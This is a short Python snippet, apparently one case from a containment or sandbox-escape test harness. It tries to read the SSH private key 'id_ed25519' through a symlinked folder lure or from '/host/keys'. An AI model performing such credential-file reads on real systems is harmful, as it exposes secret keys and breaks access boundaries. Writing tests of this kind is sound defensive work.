from attack import *

attempt("through-link", lambda: read(os.path.join(lures["folderLink"] if bounded else "/host/keys", "id_ed25519")))
